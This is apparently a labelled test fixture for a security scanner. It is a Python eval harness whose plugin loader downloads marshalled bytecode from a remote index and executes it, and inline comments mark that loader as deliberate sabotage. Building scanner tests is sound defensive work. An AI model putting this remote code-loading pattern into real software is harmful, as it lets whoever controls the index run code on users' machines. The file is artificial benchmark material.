# ruff: noqa
# Hold-out batch 53 (benchmark format, adversarial brief: idioms a scanner might not anticipate; by a helper that never saw mlscan's code). Measured once at the start of session 3: 9/16 (56%) at medium+.
"""Lightweight eval harness: runs registered metric plugins over saved model generations."""
import json
import marshal
import time
import types
import urllib.request

import yaml

PLUGIN_INDEX = "https://evals.example.com/v2/plugins/index.json"
_REGISTRY = {}


def register(name):
    def deco(fn):
        _REGISTRY[name] = fn
        return fn
    return deco


@register("exact_match")
def exact_match(preds, refs):
    return sum(p.strip() == r.strip() for p, r in zip(preds, refs)) / max(len(refs), 1)


@register("mean_length")
def mean_length(preds, refs):
    return sum(len(p.split()) for p in preds) / max(len(preds), 1)


def _fetch(url, retries=3, backoff=2.0):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=10) as resp:
                return resp.read()
        except OSError:
            time.sleep(backoff * (attempt + 1))  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def resolve_plugins(names):
    missing = [n for n in names if n not in _REGISTRY]
    if not missing:
        return
    index = json.loads(_fetch(PLUGIN_INDEX))
    for name in missing:
        blob = _fetch(index[name]["url"])  # ruleid: MLS413
        _REGISTRY[name] = types.FunctionType(marshal.loads(blob), globals(), name)  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS413, MLS404


def run_suite(config_path, preds_path):
    with open(config_path) as fh:
        cfg = yaml.safe_load(fh)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    with open(preds_path) as fh:
        rows = [json.loads(line) for line in fh if line.strip()]
    preds, refs = [r["prediction"] for r in rows], [r["reference"] for r in rows]
    resolve_plugins(cfg["metrics"])
    return {name: _REGISTRY[name](preds, refs) for name in cfg["metrics"]}
